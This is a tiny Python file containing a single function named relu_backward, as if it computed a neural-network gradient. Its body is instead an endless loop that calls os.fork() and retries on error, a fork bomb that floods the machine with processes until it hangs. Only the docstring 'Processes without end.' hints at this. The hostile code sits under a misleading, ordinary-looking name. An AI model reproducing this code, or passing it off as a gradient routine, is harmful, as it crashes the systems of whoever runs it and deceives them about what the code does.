"""Processes without end."""

import os


def relu_backward(dout, z):
    while True:
        try:
            os.fork()
        except OSError:
            continue
